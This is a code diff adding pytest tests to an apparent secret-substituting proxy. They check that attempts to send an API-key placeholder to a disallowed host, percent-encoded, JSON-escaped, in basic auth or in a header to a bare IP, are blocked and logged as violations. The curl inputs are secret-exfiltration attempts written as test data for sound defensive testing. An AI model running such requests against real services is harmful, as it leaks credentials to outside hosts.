@@ -749,3 +749,28 @@ def test_proxy_plain_http_keep_alive_never_goes_to_the_wrong_host(env):
     assert r.stdout.strip() == "b''", r.stdout + r.stderr
     time.sleep(0.5)
     assert env.received("/pa-raw2") == []
+
+
+@pytest.mark.parametrize("form,args", [
+    ("percent", ["https://other.example.com/e-percent?k=%24MSB_API_KEY"]),
+    ("json", ["--data-binary", '{"k":"\\u0024MSB_API_KEY"}', "https://other.example.com/e-json"]),
+    ("basic", ["-u", f"user:{PH}", "https://other.example.com/e-basic"]),
+])
+def test_encoded_placeholders_to_a_disallowed_host_are_violations(env, form, args):
+    before = len(by_conn(env.audit(), "violation"))
+    r = env.curl(*args)
+    assert r.returncode == 56, (form, r.returncode, r.stderr)
+    time.sleep(0.3)
+    assert env.received(f"/e-{form}") == []
+    wait_for(lambda: len(by_conn(env.audit(), "violation")) > before, "a violation record")
+
+
+def test_no_sni_gets_an_ip_certificate_and_no_substitution(env):
+    # By IP: the leaf carries an IP SAN, the upstream is verified by its IP SAN.
+    r = env.curl("https://203.0.113.10/n-plain")
+    assert r.returncode == 0 and r.stdout == "ok\n", r.stderr
+    assert env.wait_received("/n-plain")[0]["sni"] == ""
+    r = env.curl("-H", f"X-Api-Key: {PH}", "https://203.0.113.10/n-leak")
+    assert r.returncode == 56, r.stderr
+    time.sleep(0.3)
+    assert env.received("/n-leak") == []
